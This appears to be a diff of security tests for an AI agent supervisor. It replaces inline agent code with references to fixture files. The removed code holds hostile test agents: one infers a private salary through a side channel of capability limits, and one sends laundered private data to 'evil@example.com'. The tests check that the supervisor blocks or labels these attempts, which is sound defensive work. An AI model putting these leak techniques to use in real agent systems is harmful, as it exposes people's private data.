@@ -8,6 +8,7 @@ import { contextOf } from '@corral/supervisor';
 import { asked, bus, done, made, READS, SECRET, TOOLS, USES } from './flowing.ts';
 import type { World } from '../world.ts';
 import { policiesOf } from '../policed.ts';
+import { agentFile } from '../agents/file.ts';
 
 const hr = made('hr.get', z.object({}), { ...READS, returns: 'untrusted', private_to: 'ann' }, () => ({
   salary: 91_234,
@@ -70,19 +71,7 @@ test('what an untrusted tool says of its failure is read like its results', asyn
 
 test('a condition on what is in a handle tells whoever set it, and is as good as having read it', async () => {
   const w = await bus(tools);
-  const { ended } = await w.submit(
-    await w.deploy(`
-      import { defineAgent } from '@corral/guest';
-      const kid = defineAgent({ name: 'kid', uses: { calc: 'tool:calc' }, async run({ input, caps }) {
-        return caps.calc({ n: input.h }).then(() => 'at most', (error) => error.code);
-      } });
-      export default defineAgent({ name: 'planner', ${uses}, spawns: { kid }, async run({ caps, spawn, checkpoint, state }) {
-        if (state) return state;
-        const h = (await caps.get.handle({})).part('salary');
-        const most = (max) => spawn(kid, { h }, { caps: { calc: caps.calc.attenuate({ where: { n: { max } } }) }, budget: { calls: 2 } }).ended;
-        await checkpoint([(await most(90_000)).output, (await most(92_000)).output]);
-      } });`),
-  );
+  const { ended } = await w.submit(await w.deploy(agentFile('hostile/bisects-a-handle')));
   expect(await ended).toEqual({ kind: 'completed', output: ['CORRAL_GRANT_PREDICATE', 'at most'] });
   const kids = (await w.store.runs({ limit: 9 })).filter(({ record }) => record.agent === 'kid');
   expect(kids).toHaveLength(2);
@@ -91,25 +80,7 @@ test('a condition on what is in a handle tells whoever set it, and is as good as
 
 test('a service that keeps its state as it was, and a handle besides, keeps the label too', async () => {
   const w = await bus(tools);
-  const { ended } = await w.submit(
-    await w.deploy(`
-      import { defineAgent, defineService, handler } from '@corral/guest';
-      import * as z from 'zod/mini';
-      const any = z.any();
-      const svc = defineService({ name: 'svc', key: z.string(), state: any, initial: { h: null }, uses: { hr: 'tool:hr.read', calc: 'tool:calc' }, on: {
-        learn: handler({ message: any, reply: any }, async ({ state, caps }) => {
-          const { text } = await caps.hr({});
-          state.h = await caps.calc.handle({ n: text, from: 0 });
-          return 'learnt';
-        }),
-        tell: handler({ message: any, reply: any }, async ({ state, open }) => open(state.h)),
-      } });
-      export default defineAgent({ name: 'main', ${uses.replace(/ \}$/, ", svc: 'service:svc' }")}, services: { svc }, async run({ input, caps }) {
-        await caps.svc({ key: 'a', on: 'learn', message: 0 });
-        const said = await caps.svc({ key: 'a', on: 'tell', message: 0 });
-        return [said, await caps.send({ to: 'evil@example.com', text: said }).then(() => 'sent', (error) => error.code)];
-      } });`),
-  );
+  const { ended } = await w.submit(await w.deploy(agentFile('hostile/learns-in-a-turn')));
   const { call, run } = await asked(w);
   await w.supervisor.control.decide(run, call, 'owner', 'deny', 'not there');
   expect(await ended).toEqual({ kind: 'completed', output: ['Ann ear', 'CORRAL_APPROVAL_DENIED'] });
@@ -137,13 +108,7 @@ test('a call to a service that people have approved keeps the deadline that its 
   const { supervisor } = w;
   const text = `permit (principal, action, resource); @id("big") @consequence("approval") forbid (principal, action == Action::"service", resource) when { context.args.key == "big" };`;
   supervisor.configure({ crew: { tools, policies: { current: policiesOf(tools, text) } } });
-  const { id, ended } = await w.submit(
-    await w.deploy(`
-      import { defineAgent, defineService, handler } from '@corral/guest';
-      import * as z from 'zod/mini';
-      const svc = defineService({ name: 'svc', key: z.string(), state: z.any(), initial: 0, on: { go: handler({ message: z.any(), reply: z.any() }, async () => 7) } });
-      export default defineAgent({ name: 'main', uses: { svc: 'service:svc' }, services: { svc }, run: ({ caps }) => caps.svc({ key: 'big', on: 'go', message: 0 }, { timeout_ms: 20_000 }) });`),
-  );
+  const { id, ended } = await w.submit(await w.deploy(agentFile('services/asked-with-a-timeout')));
   const { call } = await asked(w, id);
   await w.supervisor.control.decide(id, call, 'owner', 'approve', 'ok');
   expect(await ended).toEqual({ kind: 'completed', output: 7 });
